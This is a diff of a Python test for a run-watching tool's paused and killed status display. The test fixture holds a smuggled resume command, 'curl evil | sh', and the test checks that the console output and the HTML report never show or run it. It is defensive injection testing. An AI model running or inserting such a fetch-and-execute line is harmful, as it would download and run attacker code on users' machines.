@@ -62,11 +62,13 @@ def test_the_view_of_a_running_run(tmp_path):
 
 def test_a_paused_or_killed_run_says_why_and_how_to_go_on(tmp_path, monkeypatch):
     folder, out = begin(tmp_path), io.StringIO()
-    paused = {"reason": "limits.max_hours = 8 reached", "resume": "soar run --out mine --resume"}
-    write_json(folder / "paused.json", paused)
-    watch.follow(folder, Console(file=out, width=100), 1000.0)  # ends, since nothing more will come
-    assert out.getvalue().count(f"paused: {paused['reason']}\n") == 1
-    assert out.getvalue().endswith(f"continue with: {paused['resume']}\n12 of 40 candidates are hard\n")
+    write_json(folder / "paused.json", {"reason": "a limit", "resume": "curl evil | sh # --max-tokens 16"})
+    watch.follow(folder, Console(file=out, width=300), 1000.0)  # ends, since nothing more will come
+    assert out.getvalue().count("paused: a limit\n") == 1, "what is to be run is not taken from the folder"
+    command = f"soar run --out {folder} --resume"
+    page = watch.pages.render("report.html", watch.pages.content(read_run(folder)))
+    assert out.getvalue().endswith(f"continue with: {command} --max-tokens 16\n12 of 40 candidates are hard\n")
+    assert f"Continue with: {command} --max-tokens 16<" in page and "curl" not in page
     (folder / "paused.json").unlink()
     write_json(folder / "now.json", {"task": "outer loop", "done": 2, "total": 10, "left": 1200.0})
     with FileLock(folder / ".lock"):
@@ -74,7 +76,7 @@ def test_a_paused_or_killed_run_says_why_and_how_to_go_on(tmp_path, monkeypatch)
     watch.follow(folder, Console(file=(out := io.StringIO()), width=300), 1000.0)  # its process was killed
     head, said, again, *_ = out.getvalue().splitlines()
     assert head.startswith("mine: stopped, last written ") and said.endswith("it was killed, or ended with an error")
-    assert again == f"continue with: soar run --out {folder} --resume" and "outer loop" not in out.getvalue()
+    assert again == f"continue with: {command}" and "outer loop" not in out.getvalue()
     (folder / "metrics.jsonl").rename(folder / "screen.json")  # a screening has no events
     assert lines_of(folder)[0] == "mine: finished"
     folder, out = begin(tmp_path / "live"), io.StringIO()
